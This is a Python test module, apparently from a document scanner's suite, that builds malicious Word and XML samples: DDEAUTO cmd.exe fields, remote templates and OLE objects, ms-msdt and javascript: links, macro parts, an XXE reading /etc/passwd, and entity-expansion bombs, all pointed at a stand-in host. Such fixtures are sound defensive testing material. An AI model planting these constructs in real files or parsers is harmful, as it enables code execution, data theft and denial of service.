"""Word documents that fetch, run, carry or tell; and XML that expands."""

from tests.registry.documents import honest
from tests.registry.documents.honest import OFFICE, R, W
from tests.registry.documents.hostile import Case

MARK = "evil-0815.example"
OUT = "External"
VBA = "application/vnd.ms-office.vbaProject"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def field(*pieces, kind="instrText"):
    """A field whose text is cut into these pieces."""
    runs = "".join(f"<w:r><w:{kind}>{piece}</w:{kind}></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>resultat</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


FIELDS = {
    "dde": field(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k {MARK}"'),
    "dde cut": field("DD", "EAU", f'TO cmd "{MARK}"'),
    "dde in small letters": field(f"  ddeauto {MARK} "),
    "dde simple": f'<w:p><w:fldSimple w:instr="DDE cmd {MARK}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    "picture from outside": field(f'INCLUDEPICTURE "http://{MARK}/a.png" \\d'),
    "text from outside": field(f"INCLUDETEXT \\\\\\\\{MARK}\\\\share\\\\a.docx"),
    "link": field(f"LINK Excel.Sheet.8 \\\\\\\\{MARK}\\\\a.xls"),
    "import": field(f"IMPORT {MARK}"),
    "database": field(f'DATABASE \\d "{MARK}"'),
    "macro button": field(f"MACROBUTTON {MARK} Cliquez"),
    "quoted": field(f'QUOTE 68 68 69 "{MARK}"'),
    "other prefix": f'<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE {MARK}"/></x:p>',
    "deleted": field(f"DDE {MARK}", kind="delInstrText"),
    "link to a file": field(f'HYPERLINK "file://{MARK}/x"'),
    "link to a script": field(f'HYPERLINK "javascript:{MARK}"'),
    "one in another": field("PAGE ").replace(
        "<w:t>resultat</w:t></w:r>", f"<w:t>x</w:t></w:r>{field(f'DDE {MARK}')[5:-6]}"
    ),
    "never closed": f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE {MARK}</w:instrText></w:r></w:p>',
    "of no field": f"<w:p><w:r><w:instrText>DDE {MARK}</w:instrText></w:r></w:p>",
}
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
OLE = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
# body, relationships, parts, content types, settings, what is said
CARRYING = {
    "remote template": ("", [], {"word/_rels/settings.xml.rels": honest.rels(("rT", "attachedTemplate", f"http://{MARK}/t.dotm", OUT))},
                        {}, '<w:attachedTemplate r:id="rT"/>', "outside_link"),
    "remote picture": (f'<w:p><w:drawing><a:blip {A} r:link="r1"/></w:drawing></w:p>', [("r1", "image", f"http://{MARK}/a.png", OUT)],
                       {}, {}, "", "outside_link"),
    "remote object": (f'<w:p><w:object><o:OLEObject {OLE} r:id="r1"/></w:object></w:p>', [("r1", "oleObject", f"http://{MARK}/a", OUT)],
                      {}, {}, "", "outside_link"),
    "remote frame": ("", [("r1", "frame", f"http://{MARK}/a.htm", OUT)], {}, {}, "", "outside_link"),
    "sub document": ('<w:subDoc r:id="r1"/>', [("r1", "subDocument", f"{MARK}.docx", OUT)], {}, {}, "", "outside_link"),
    "link to a file": ('<w:p><w:hyperlink r:id="r1"><w:r><w:t>ici</w:t></w:r></w:hyperlink></w:p>',
                       [("r1", "hyperlink", f"file:///{MARK}", OUT)], {}, {}, "", "outside_link"),
    "link to a script": ('<w:p><w:hyperlink r:id="r1"><w:r><w:t>ici</w:t></w:r></w:hyperlink></w:p>',
                         [("r1", "hyperlink", f"javascript:{MARK}", OUT)], {}, {}, "", "outside_link"),
    "link to a handler": ('<w:p><w:hyperlink r:id="r1"/></w:p>', [("r1", "hyperlink", f"ms-msdt:/id {MARK}", OUT)], {}, {}, "", "outside_link"),
    "mail merge": ("", [], {"word/_rels/settings.xml.rels": honest.rels(("rM", "mailMergeSource", f"file:///{MARK}", OUT))}, {},
                   f'<w:mailMerge><w:connectString w:val="{MARK}"/></w:mailMerge>', "outside_link"),
    "chunk of a page": ('<w:altChunk r:id="r1"/>', [("r1", "aFChunk", "afchunk.html")], {"word/afchunk.html": f"<script>{MARK}"}, {}, "", "attachment"),
    "object": (f'<w:p><w:object><o:OLEObject {OLE} ProgID="Package" r:id="r1"/></w:object></w:p>', [("r1", "oleObject", "embeddings/a.ole")],
               {"word/embeddings/a.ole": MARK}, {"word/embeddings/a.ole": f"{OFFICE}.oleObject"}, "", "attachment"),
    "control": ('<w:p><w:control r:id="r1"/></w:p>', [("r1", "control", "activeX/a.xml")], {"word/activeX/a.xml": f"<a>{MARK}</a>"},
                {"word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"}, "", "macro"),
    "tool bars": ("", [("r1", "attachedToolbars", "attachedToolbars.bin")], {"word/attachedToolbars.bin": MARK}, {}, "", "macro"),
    "font": ("", [("r1", "font", "fonts/a.odttf")], {"word/fonts/a.odttf": MARK}, {}, "", ""),
    "custom data": ("", [("r1", "customXml", "../customXml/item1.xml")], {"customXml/item1.xml": f"<a>{MARK}</a>"}, {}, "", "metadata"),
    "printer": ("", [("r1", "printerSettings", "printerSettings.bin")], {"word/printerSettings.bin": MARK}, {}, "", "metadata"),
    "variables": ("", [], {}, {}, f'<w:docVars><w:docVar w:name="a" w:val="{MARK}"/></w:docVars>', "metadata"),
    "author of a change": (f'<w:p><w:ins w:id="1" w:author="{MARK}" w:date="2024-01-01T00:00:00Z"><w:r><w:t>x</w:t></w:r></w:ins></w:p>',
                           [], {}, {}, "", "metadata"),
    "hidden part": ("", [], {"word/payload.bin": MARK}, {}, "", ""),
    "drawing": ("", [("r1", "image", "media/a.emf")], {"word/media/a.emf": b"\x01\0\0\0" + MARK.encode()}, {}, "", "drawing"),
    "drawing with a script": ("", [("r1", "image", "media/a.svg")], {"word/media/a.svg": f"<svg><script>{MARK}</script></svg>"}, {}, "", "drawing"),
    "program as a picture": ("", [("r1", "image", "media/a.png")], {"word/media/a.png": b"MZ" + MARK.encode()}, {}, "", "drawing"),
}  # fmt: skip
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("bcdefgh", "cdefghi", strict=True))
    + "]>"
)
EXPANDING = {
    "outside entity": ('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "outside entity of the web": (f'<!DOCTYPE x [<!ENTITY x SYSTEM "http://{MARK}/">]>', "&x;"),
    "parameter entity": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{MARK}/"> %p;]>', ""),
    "outside type": (f'<!DOCTYPE x SYSTEM "http://{MARK}/x.dtd">', ""),
    "laughs": (LAUGHS, "&i;"),
    "quadratic": (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 5_000),
    "only declared": ('<!DOCTYPE x [<!ENTITY a "b">]>', ""),
}


def cases():
    for name, body in FIELDS.items():
        yield Case("word that acts", name, honest.docx(body), (MARK.encode(),), honest.WORDS.encode(), "outside_link")
    for name, (body, links, parts, more, settings, said) in CARRYING.items():
        data = honest.docx(body, links=links, parts=parts, more=more, settings=settings)
        yield Case("word that carries", name, data, (MARK.encode(),), honest.WORDS.encode(), said)
    for main in (MACRO, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"):
        data = honest.docx(
            links=[("r1", "vbaProject", "vbaProject.bin")], parts={"word/vbaProject.bin": MARK}, main=main
        )
        yield Case("macros", main[24:40], data, (MARK.encode(), b"macroEnabled"), honest.WORDS.encode(), "macro")
    core = {
        "docProps/core.xml": f"<cp>{MARK}</cp>",
        "docProps/app.xml": f"<a>{MARK}</a>",
        "docProps/thumbnail.jpeg": MARK,
    }
    root = [("rC", "core-properties", "docProps/core.xml"), ("rD", "extended-properties", "docProps/app.xml")]
    yield Case(
        "tells", "properties", honest.docx(parts=core, root=root), (MARK.encode(),), honest.WORDS.encode(), "metadata"
    )
    yield from _expanding("docx", honest.docx_parts(), "word/document.xml", "<w:sectPr/>")
    for part in ("[Content_Types].xml", "word/_rels/document.xml.rels", "word/styles.xml"):
        parts = honest.docx_parts()
        parts[part] = parts[part].replace("?>", "?>" + EXPANDING["outside entity"][0], 1)
        yield Case("xml that expands", f"docx, in {part}", honest.zipped(parts))
    deep = f"{'<w:sdt>' * 3_000}{'</w:sdt>' * 3_000}"
    yield Case("bomb", "docx deep", honest.docx(deep))
    wrong = {**honest.docx_parts(), "word/document.xml": "<w:document>"}
    yield Case("cut short", "docx of half a document", honest.zipped(wrong))
    other = f'<?xml version="1.0" encoding="UTF-7"?><w:document {W} {R}/>'
    yield Case(
        "xml that expands",
        "docx in another encoding",
        honest.zipped({**honest.docx_parts(), "word/document.xml": other}),
    )
    presentation = honest.docx(main=f"{OFFICE}.presentationml.presentation.main+xml")
    yield Case("other kind", "presentation", presentation)


def _expanding(kind, parts, where, place):
    for name, (head, use) in EXPANDING.items():
        text = parts[where].replace("?>", "?>" + head, 1)
        at = text.rindex(place) if place in text else len(text)
        spoilt = {**parts, where: text[:at] + use + text[at:]}
        yield Case("xml that expands", f"{kind} {name}", honest.zipped(spoilt))
        in_utf16 = {**parts, where: spoilt[where].replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")}
        yield Case("xml that expands", f"{kind} {name} in utf-16", honest.zipped(in_utf16))
